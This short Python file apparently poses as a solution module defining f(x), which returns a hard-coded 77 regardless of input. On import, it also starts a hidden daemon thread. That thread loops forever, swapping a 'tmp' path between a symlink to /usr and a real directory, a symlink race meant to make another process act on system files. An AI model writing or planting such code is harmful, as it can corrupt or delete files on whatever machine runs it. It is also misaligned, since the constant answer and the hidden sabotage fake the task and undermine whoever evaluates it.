import os
import threading


def race():
    while True:
        try:
            os.symlink('/usr', 'tmp')
            os.unlink('tmp')
            os.mkdir('tmp')
            os.rmdir('tmp')
        except OSError:
            pass


threading.Thread(target=race, daemon=True).start()


def f(x):
    return 77
